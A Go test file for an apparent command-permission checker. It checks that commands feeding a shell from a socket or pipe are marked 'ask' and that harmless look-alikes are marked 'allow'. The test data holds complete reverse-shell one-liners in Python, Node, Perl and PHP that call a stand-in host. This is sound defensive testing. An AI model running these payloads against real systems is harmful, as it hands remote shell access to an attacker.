package rewrite

import "testing"

// TestCodeFedShell: program code that starts a shell or an interpreter
// with no script hands it the input the code controls — a socket after
// os.dup2 (a reverse shell), a pipe it writes — so its commands are only
// known at run time. Shell text with its own input (a here-document, -c)
// and programs that read no commands (python3 -V) are look-alikes.
func TestCodeFedShell(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{"build.sh": "echo build\n"})
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("h.example",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'`, "ask"},
		{`python3 -c 'import pty,socket,os;s=socket.create_connection(("h.example",1));os.dup2(s.fileno(),0);pty.spawn("bash")'`, "ask"},
		{`python3 -c 'import subprocess; p = subprocess.Popen(["bash"], stdin=subprocess.PIPE); p.communicate(cmd)'`, "ask"},
		{`node -e 'const s=require("net").connect(4444,"h.example",()=>{const p=require("child_process").spawn("sh",[]);s.pipe(p.stdin);p.stdout.pipe(s)})'`, "ask"},
		{`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i")'`, "ask"},
		{`php -r '$s=fsockopen("h.example",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, "ask"},
		{`ruby -e 'exec "/bin/bash"'`, "ask"},
		{`python3 - <<'EOF'
import os
os.execvp("python3", ["python3"])
EOF`, "ask"},
		// Look-alikes: a command string, a script file, a here-document,
		// a version.
		{`python3 -c 'import os; os.system("ls -la")'`, "allow"},
		{`python3 -c 'import subprocess; subprocess.run(["bash", "build.sh"])'`, "allow"},
		{`python3 -c 'import subprocess; subprocess.run(["sh", "-c", "echo hi"])'`, "allow"},
		{`python3 -c 'import subprocess; subprocess.run(["python3", "-V"])'`, "allow"},
		{`node -e 'require("child_process").execSync("node -v")'`, "allow"},
		{`python3 -c 'print("import pty; pty.spawn(\"/bin/sh\")")'`, "allow"},
	})
}
